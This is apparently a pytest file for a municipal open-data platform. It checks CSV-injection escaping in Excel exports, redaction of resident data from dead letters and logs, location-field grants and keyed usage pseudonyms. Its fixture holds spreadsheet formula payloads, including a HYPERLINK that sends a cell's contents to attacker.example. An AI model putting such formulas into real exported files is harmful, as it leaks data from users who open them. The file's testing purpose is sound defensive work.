"""What the platform hands out must not carry more than it should, against the real services:

* a CSV made for Excel (``bom=true`` / ``excel=true``) and the audit CSV never let a spreadsheet
  run a cell (OWASP CSV injection), while a plain CSV stays exact;
* a record the database refuses is dead-lettered and logged without its values;
* a field-level grant that leaves out the location gives no position in any form, and the
  schema shown to the grantee names only the granted fields;
* usage-report pseudonyms cannot be recomputed from a key's public id.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from cityos.domain.apikeys import OwnerKind, issue_key
from cityos.kernel.db.engine import make_engine, session_factory
from cityos.kernel.settings import REPO_ROOT
from tests.support.feeds import bearer, credential, grant, produce, validated_event
from tests.support.stack import Stack, header

FORMULAS = {
    "名称": '=HYPERLINK("http://attacker.example/?"&A1,"詳細")',
    "名称_カナ": "+カナ",
    "住所": "-1+2",
    "設置位置": "@SUM(A1:A9)",
    "備考": "\t=1+1",
}


def aed_record(key: str, **fields: Any) -> dict[str, Any]:
    record = {"NO": key, "名称": "市役所", "名称_カナ": "シヤクショ", "住所": "北九州市", "設置位置": "1階"}
    return {**record, "緯度": 33.88, "経度": 130.87, **fields}


def send(
    stack: Stack, dataset: str, records: list[dict[str, Any]], key_field: str = "NO", department: str = "fire"
) -> None:
    producer = stack.producer()
    for number, record in enumerate(records):
        key, value = validated_event(dataset, record, key_field, f"hygiene-{dataset}-{number}")
        produce(producer, stack.settings.validated_topic, key, value, department=department)
    assert producer.flush(30) == 0


def wait_total(stack: Stack, dataset: str, expected: int, headers: dict[str, str] | None = None) -> None:
    url = stack.url("publish", f"/api/v1/datasets/{dataset}/records")
    deadline = time.monotonic() + 60
    total = -1
    while time.monotonic() < deadline:
        response = httpx.get(url, headers=headers or {}, timeout=30)
        total = response.json().get("total", -1) if response.status_code == 200 else -1
        if total >= expected:
            return
        time.sleep(0.3)
    raise AssertionError(f"{dataset}: {total} of {expected} records\n{stack.log_tail('catalog')}")


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.timeout(300)
def test_csv_for_excel_and_the_audit_export_never_run_a_cell(sqlite_stack: Stack) -> None:
    stack = sqlite_stack
    stack.start("catalog", "publish")
    send(stack, "aed", [aed_record("X1", **FORMULAS), aed_record("X2", 住所="-3.5")])
    wait_total(stack, "aed", 2)
    records = stack.url("publish", "/api/v1/datasets/aed/records")
    export = stack.url("publish", "/api/v1/datasets/aed/export")

    plain = httpx.get(records, params={"format": "csv", "sort": "NO"}, timeout=30)
    exact = {row["NO"]: row for row in csv_rows(plain.content)}
    assert {name: exact["X1"][name] for name in FORMULAS} == FORMULAS  # a data interface: exact
    assert exact["X2"]["住所"] == "-3.5"
    assert httpx.get(export, params={"format": "csv"}, timeout=30).content.count(b"=HYPERLINK") == 1

    for url, params in (
        (records, {"format": "csv", "bom": "true"}),
        (records, {"format": "csv", "excel": "true"}),
        (export, {"format": "csv", "bom": "true"}),
        (export, {"format": "csv", "excel": "1"}),
    ):
        response = httpx.get(url, params=params, timeout=30)
        assert response.status_code == 200, response.text
        rows = {row["NO"]: row for row in csv_rows(response.content)}
        assert {name: rows["X1"][name] for name in FORMULAS} == {
            name: "'" + value for name, value in FORMULAS.items()
        }, (url, params)
        assert rows["X2"]["住所"] == "-3.5"  # exactly a number: never a formula, kept
        assert rows["X1"]["緯度"] == "33.88"
    refused = httpx.get(records, params={"format": "csv", "excel": "maybe"}, timeout=30)
    assert refused.status_code == 400 and refused.json()["parameter"] == "excel"

    # The audit log names whatever a caller asked for; its CSV (made for Excel) never runs it.
    asked = httpx.post(
        stack.url("catalog", "/api/v1/datasets/=1+2/grants"),
        headers=stack.admin_headers,
        json={"grantee": "digital"},
        timeout=30,
    )
    assert asked.status_code == 404
    audit = httpx.get(
        stack.url("catalog", "/api/v1/audit/export"),
        params={"format": "csv"},
        headers=stack.admin_headers,
        timeout=30,
    )
    assert audit.status_code == 200, audit.text
    subjects = [row["subject_id"] for row in csv_rows(audit.content)]
    assert "'=1+2" in subjects and "=1+2" not in subjects


@pytest.mark.timeout(300)
def test_usage_pseudonyms_are_keyed(sqlite_stack: Stack) -> None:
    stack = sqlite_stack
    stack.start("catalog", "publish")
    engine = make_engine(stack.database_url)
    try:
        with session_factory(engine)() as session, session.begin():
            issued = issue_key(
                session, owner_kind=OwnerKind.developer, owner_id="dev", purpose="t", actor="t"
            )
    finally:
        engine.dispose()
    key_id = issued.key_id
    mine = {"Authorization": f"Bearer {issued.secret}"}
    assert httpx.get(stack.url("publish", "/api/v1/datasets/aed/records"), headers=mine).status_code == 200
    report = httpx.get(stack.url("publish", "/api/v1/usage"), params={"key": "me"}, headers=mine).json()
    pseudonyms = {row["key"] for row in report["rows"]}
    assert len(pseudonyms) == 1
    (pseudonym,) = pseudonyms
    # A plain hash of any prefix of the credential would let anyone name every key in the report.
    plain = hashlib.sha256(key_id.encode()).hexdigest()[:16]
    assert len(pseudonym) == 16 and pseudonym != plain and key_id not in json.dumps(report)


@pytest.mark.timeout(300)
@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
def test_a_refused_record_leaves_no_value_in_the_dead_letter_or_the_log(stack: Stack) -> None:
    stack.start("catalog")
    # PostgreSQL refuses a NUL character in a JSON document (the schema allows it; ingest's strict
    # decoding would refuse it first); the record is a resident's.
    marker = "山田花子-機微-0001"
    poison = "1\x00階"
    record = aed_record("P1", 名称=marker, 住所=f"{marker} 北九州市小倉北区1-1", 設置位置=poison)
    send(stack, "aed", [record, aed_record("after")])
    letters = stack.read(stack.settings.deadletter_topic, until=lambda m: len(m) >= 1)
    assert [header(m, "cityos_reason") for m in letters] == ["catalog_rejected"]
    detail = header(letters[0], "cityos_detail") or ""
    assert detail and "UntranslatableCharacter" in detail, detail
    time.sleep(1)  # the log line is written before the dead letter is produced; let it flush
    log = (stack.log_dir / f"{stack.prefix}catalog.log").read_text(encoding="utf-8", errors="replace")
    for leaked in (marker, poison, "北九州市小倉北区"):
        assert leaked not in detail, detail
        assert leaked not in log, [line for line in log.splitlines() if leaked in line][:3]


def schemas_with_internal_map_dataset(target: Path) -> Path:
    """The repository's schemas plus ``fire-aed``: the AED list, internal to the fire bureau."""
    shutil.copytree(REPO_ROOT / "schemas", target)
    folder = target / "fire-aed"
    shutil.copytree(target / "aed", folder)
    meta = json.loads((folder / "dataset.json").read_text(encoding="utf-8"))
    meta.update(id="fire-aed", classification="internal")
    (folder / "dataset.json").write_text(json.dumps(meta, ensure_ascii=False), encoding="utf-8")
    for schema_file in folder.glob("v*.schema.json"):
        schema = json.loads(schema_file.read_text(encoding="utf-8"))
        schema["$id"] = schema["$id"].replace("/aed/", "/fire-aed/")
        schema_file.write_text(json.dumps(schema, ensure_ascii=False), encoding="utf-8")
    return target


@pytest.mark.timeout(300)
def test_a_grant_without_the_location_fields_gives_no_position(sqlite_stack: Stack, tmp_path: Path) -> None:
    stack = sqlite_stack
    stack.extra_env["CITYOS_SCHEMAS_DIR"] = str(schemas_with_internal_map_dataset(tmp_path / "schemas"))
    stack.start("catalog", "publish")
    grant(stack, "fire-aed", "digital", ["名称"])
    grant(stack, "fire-aed", "planning", ["名称", "緯度", "経度"])
    blind, sighted = bearer(credential(stack, "digital")), bearer(credential(stack, "planning"))
    send(stack, "fire-aed", [aed_record("G1"), aed_record("G2", 緯度=33.9, 経度=130.9)])
    wait_total(stack, "fire-aed", 2, sighted)
    base = stack.url("publish", "/api/v1/datasets/fire-aed")

    for params in (
        {"format": "geojson"},
        {"bbox": "130.8,33.8,131.0,34.0"},
        {"near": "130.87,33.88", "distance": "500"},
    ):
        for url in (f"{base}/records", f"{base}/export"):
            refused = httpx.get(url, params=params, headers=blind, timeout=30)
            assert refused.status_code == 403, (url, params, refused.text)
            assert refused.json()["error"] == "location_not_granted"
    as_geojson = httpx.get(f"{base}/records", headers={**blind, "Accept": "application/geo+json"}, timeout=30)
    assert as_geojson.status_code == 403

    page = httpx.get(f"{base}/records", headers=blind, timeout=30).json()
    assert all(set(record) == {"NO", "名称"} for record in page["records"])
    detail = httpx.get(base, headers=blind, timeout=30).json()
    assert detail["location"] is None and "geojson" not in detail["links"]
    assert set(detail["schema"]["document"]["properties"]) == {"NO", "名称"}
    assert set(detail["schema"]["document"]["required"]) == {"NO", "名称"}
    for path in ("/catalog/datasets/fire-aed.ttl", "/catalog.ttl"):  # only fire-aed holds records
        turtle = httpx.get(stack.url("publish", path), headers=blind, timeout=30)
        assert turtle.status_code == 200 and "fire-aed" in turtle.text
        assert "POLYGON" not in turtle.text and "dcat:bbox" not in turtle.text, path

    # A grant that includes both location fields gets the map and the filters.
    features = httpx.get(f"{base}/records", params={"format": "geojson"}, headers=sighted, timeout=30)
    assert features.status_code == 200, features.text
    assert all(f["geometry"] is not None for f in features.json()["features"])
    boxed = httpx.get(f"{base}/records", params={"bbox": "130.89,33.89,131.0,34.0"}, headers=sighted)
    assert [r["NO"] for r in boxed.json()["records"]] == ["G2"]
    shown = httpx.get(base, headers=sighted, timeout=30).json()
    assert shown["location"] == {"latitude": "緯度", "longitude": "経度"}
    assert set(shown["schema"]["document"]["properties"]) == {"NO", "名称", "緯度", "経度"}
    own = httpx.get(stack.url("publish", "/catalog/datasets/fire-aed.ttl"), headers=sighted, timeout=30)
    assert "POLYGON" in own.text
